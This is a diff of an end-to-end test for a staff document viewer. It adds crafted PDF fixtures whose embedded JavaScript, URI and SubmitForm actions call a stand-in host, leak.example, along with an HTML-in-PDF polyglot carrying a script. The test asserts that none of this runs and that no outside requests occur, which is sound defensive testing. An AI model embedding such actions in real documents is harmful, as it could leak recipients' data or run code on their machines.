@@ -25,6 +25,22 @@ const PDF = { name: 'letter.pdf', mimeType: 'application/pdf', buffer: Buffer.fr
  */
 const BYTES = Number(process.env.LETTER_BYTES ?? 1_500_000)
 const BYTES_PER_SECOND = Number(process.env.LETTER_BYTES_PER_SECOND ?? 500_000)
+/** Two pages; it asks its reader to run a script, to open an address, and to send a form. */
+const SCRIPTED_PDF = Buffer.from(`%PDF-1.7
+1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\('ran'\\); app.launchURL\\('https://leak.example/'\\);)>>/AA<</WC 7 0 R>>>>endobj
+2 0 obj<</Type/Pages/Count 2/Kids[3 0 R 4 0 R]>>endobj
+3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/Contents 5 0 R/Resources<</Font<</F 6 0 R>>>>/AA<</O 7 0 R>>>>endobj
+4 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/AA<</O<</S/URI/URI(https://leak.example/)>>>>>>endobj
+5 0 obj<</Length 44>>stream
+BT /F 24 Tf 30 300 Td (Notice of refusal) Tj ET
+endstream endobj
+6 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj
+7 0 obj<</S/SubmitForm/F(https://leak.example/)>>endobj
+trailer<</Root 1 0 R>>
+%%EOF
+`)
+/** A page of HTML that begins as a PDF does. */
+const HTML_PDF = Buffer.from("%PDF-1.4\n<html><body><script>alert('ran')</script></body></html>")
 const OTHER_PDF = { ...PDF, name: 'second page.pdf', buffer: Buffer.from('%PDF-1.4\n2\n%%EOF\n') }
 /** A page's requests to its intake. */
 const AWAY = /\/(api|healthz)\b/
@@ -219,13 +235,13 @@ async function openPlain(plain: Page): Promise<Locator> {
   return plain.locator('input[type=file]')
 }
 
-it('staff see that a request has letters, look at a picture and download it; the audit tells of it', async () => {
+it('staff look at a picture and at a PDF whose scripts never run, and download it; the audit tells of it', async () => {
   await openForm()
   const input = await openLetters(form)
   await input.setInputFiles([
     { name: 'photo.jpg', mimeType: 'image/jpeg', buffer: await takePhoto(page) },
-    PDF,
-    OTHER_PDF,
+    { ...PDF, buffer: SCRIPTED_PDF },
+    { ...OTHER_PDF, buffer: HTML_PDF },
   ])
   await expect.poll(() => form.locator('[part=letter]').getByText('Uploaded: goes with your request').count()).toBe(3)
   await fillConsultation(page)
@@ -241,7 +257,7 @@ it('staff see that a request has letters, look at a picture and download it; the
   const row = staff.getByRole('row').filter({ hasText: '3 letters' }).first()
   await row.locator('[part=open]').click()
   const card = staff.locator('[part=letters]')
-  await card.locator('[part=view-letter]').click()
+  await card.getByRole('button', { name: 'View photo.jpg' }).click()
   const picture = staff.getByRole('img', { name: 'Picture: photo.jpg' })
   await picture.waitFor()
   await expect.poll(() => picture.evaluate(canvas => (canvas as HTMLCanvasElement).height)).toBe(2_666)
@@ -249,6 +265,29 @@ it('staff see that a request has letters, look at a picture and download it; the
   await picture.waitFor({ state: 'hidden' })
   await card.waitFor()
   await expect.poll(() => card.locator('canvas').count()).toBe(1)
+
+  const asked: string[] = []
+  staff.on('request', request => asked.push(request.url()))
+  staff.on('dialog', dialog => {
+    errors.push(`a dialog says: ${dialog.message()}`)
+    return dialog.dismiss()
+  })
+  await card.getByRole('button', { name: 'View letter.pdf' }).click()
+  const first = staff.getByRole('img', { name: 'Page 1' })
+  await first.and(staff.locator('[aria-busy=false]')).waitFor()
+  expect(await first.evaluate(darkPixels)).toBeGreaterThan(1_000)
+  expect(await card.getByText('Notice of refusal').count()).toBe(1)
+  expect(await axeFindings(staff, 'haven-admin')).toEqual([])
+  await card.getByRole('button', { name: 'Next' }).click()
+  const second = staff.getByRole('img', { name: 'Page 2' })
+  await second.and(staff.locator('[aria-busy=false]')).waitFor()
+  expect(await second.evaluate(darkPixels)).toBe(0)
+  await card.getByRole('button', { name: 'Close' }).click()
+  await card.getByRole('button', { name: 'View second page.pdf' }).click()
+  await card.getByText('This PDF cannot be shown here.').waitFor()
+  expect(asked.filter(url => !url.startsWith(product.url))).toEqual([])
+  expect(staff.context().pages()).toHaveLength(1)
+
   const saving = staff.waitForEvent('download')
   await card.getByRole('button', { name: 'Download letter.pdf' }).click()
   const saved = await saving
@@ -259,8 +298,16 @@ it('staff see that a request has letters, look at a picture and download it; the
   const { token } = (await ask('login', '', { password: ADMIN_PASSWORD })) as { token: string }
   await expect
     .poll(async () => ((await ask('audit?what=file_opened', token)) as AuditAnswer[]).map(({ details }) => details))
-    .toHaveLength(2)
+    .toHaveLength(4)
 })
+
+/** The number of dark pixels that a canvas shows. */
+function darkPixels(element: SVGElement | HTMLElement): number {
+  const canvas = element as HTMLCanvasElement
+  const context = canvas.getContext('2d') as CanvasRenderingContext2D
+  const { data } = context.getImageData(0, 0, canvas.width, canvas.height)
+  return data.filter((value, at) => at % 4 === 0 && value < 100 && data[at + 3] === 255).length
+}
 
 /** Calls the API as staff. */
 async function ask(path: string, token: string, json?: object): Promise<unknown> {
